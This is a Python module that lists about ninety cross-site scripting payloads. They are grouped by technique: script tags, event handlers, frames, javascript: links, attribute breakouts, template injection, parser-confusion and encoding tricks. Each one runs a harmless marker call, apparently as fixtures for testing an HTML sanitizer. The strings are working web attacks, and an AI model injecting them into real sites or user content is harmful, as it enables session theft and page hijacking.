"""Texts that run a script wherever a page takes them for markup, by the well-known classes of how that happens.

``HARM`` is the script: it tells the window on top which of them ran. None holds a line break, as no name or title does.
"""

from __future__ import annotations

HARM = "top.harm(0)"
_WRITTEN = (
    # scripts
    "<script>HARM</script>",
    "<ScRiPt>HARM</sCrIpT>",
    "<script src=data:text/javascript,HARM></script>",
    "<script>/*</script><script>*/HARM//</script>",
    "<scr<script>ipt>HARM</scr</script>ipt>",
    "</title><script>HARM</script>",
    "</textarea><script>HARM</script>",
    "</style><script>HARM</script>",
    "</script><script>HARM</script>",
    "--><script>HARM</script><!--",
    "<![CDATA[<script>HARM</script>]]>",
    # handlers that need nobody
    "<img src=x onerror=HARM>",
    "<img src=x onerror='HARM'>",
    '<img src="x" onerror="HARM">',
    "<img/src=x/onerror=HARM>",
    "<IMG SRC=x ONERROR=HARM>",
    "<img src=x onerror=&#116;&#111;&#112;&#46;harm(0)>",
    "<img src=x:x onerror=eval(atob('dG9wLmhhcm0oMCk='))>",
    "<image src=x onerror=HARM>",
    "<svg onload=HARM>",
    "<svg/onload=HARM>",
    "<svg><script>HARM</script></svg>",
    "<svg><animate onbegin=HARM attributeName=x dur=1s>",
    "<svg><set onbegin=HARM attributeName=x to=1>",
    "<svg><foreignObject><img src=x onerror=HARM></foreignObject></svg>",
    "<body onload=HARM>",
    "<input autofocus onfocus=HARM>",
    "<select autofocus onfocus=HARM>",
    "<textarea autofocus onfocus=HARM></textarea>",
    "<button autofocus onfocus=HARM>b</button>",
    "<details open ontoggle=HARM><summary>s</summary></details>",
    "<video src=x onerror=HARM></video>",
    "<video><source onerror=HARM></video>",
    "<audio src=x onerror=HARM></audio>",
    "<object data=x onerror=HARM></object>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=HARM>b</b>",
    "<marquee onstart=HARM>m</marquee>",
    # frames, documents in documents
    "<iframe srcdoc='<script>HARM</script>'></iframe>",
    "<iframe src='javascript:HARM'></iframe>",
    "<iframe onload=HARM></iframe>",
    "<embed src='javascript:HARM'>",
    "<object data='data:text/html,<script>HARM</script>'></object>",
    "<form action='javascript:HARM'><input type=submit autofocus onfocus=form.submit()></form>",
    # links
    "<a href='javascript:HARM'>a</a>",
    "<a href='java&#9;script:HARM'>a</a>",
    "<a href=' javascript:HARM'>a</a>",
    "<a href='vbscript:HARM'>a</a>",
    "<a href='data:text/html,<script>HARM</script>'>a</a>",
    "<svg><a xlink:href='javascript:HARM'><text y=9>a</text></a></svg>",
    "<math><a xlink:href='javascript:HARM'>a</a></math>",
    "[a](javascript:HARM)",
    "[a](<javascript:HARM>)",
    "![a](x\"onerror=\"HARM)",
    "<javascript:HARM>",
    # the head of a page
    "<meta http-equiv=refresh content='0;url=javascript:HARM'>",
    "<base href='javascript:HARM//'>",
    "<link rel=stylesheet href='data:text/css,*{background:url(javascript:HARM)}'>",
    "<style>*{background:url('javascript:HARM')}</style>",
    "<b style='background:url(javascript:HARM);width:expression(HARM)'>b</b>",
    # out of an attribute
    '" autofocus onfocus="HARM" x="',
    "' autofocus onfocus='HARM' x='",
    '"><img src=x onerror=HARM>',
    "'><img src=x onerror=HARM>",
    "` onfocus=HARM autofocus `",
    "\\\"><img src=x onerror=HARM>",
    "\"'><svg onload=HARM>",
    # out of a script, into a template
    "';HARM;//",
    '";HARM;//',
    "${HARM}",
    "{{HARM}}",
    "{{constructor.constructor('HARM')()}}",
    "{% raw %}<img src=x onerror=HARM>{% endraw %}",
    "<%= HARM %>",
    "$$\\href{javascript:HARM}{a}$$",
    "\\(\\htmlData{x=HARM}{a}\\)",
    # parsers that disagree
    "<noscript><p title='</noscript><img src=x onerror=HARM>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HARM&gt;'>",
    "<svg></p><style><a title='</style><img src=x onerror=HARM>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HARM>",
    "<template><img src=x onerror=HARM></template><img src=x onerror=HARM>",
    "<xmp><p title='</xmp><img src=x onerror=HARM>'></xmp>",
    "<plaintext><img src=x onerror=HARM>",
    "<img src=x onerror=HARM//",
    "<<img src=x onerror=HARM>",
    # Unicode and entities
    "&lt;img src=x onerror=HARM&gt;",
    "&#60;img src=x onerror=HARM&#62;",
    "%3Cimg src=x onerror=HARM%3E",
    "\\u003cimg src=x onerror=HARM\\u003e",
    "＜img src=x onerror=HARM＞",
    "<im\u200bg src=x onerror=HARM>",
    "\u202e<img src=x onerror=HARM>",
    "ſcript <ſcript>HARM</ſcript>",
)  # fmt: skip
PAYLOADS = tuple(
    text.replace("HARM", HARM.replace("0", str(number))).replace("harm(0)", f"harm({number})")
    for number, text in enumerate(_WRITTEN)
)
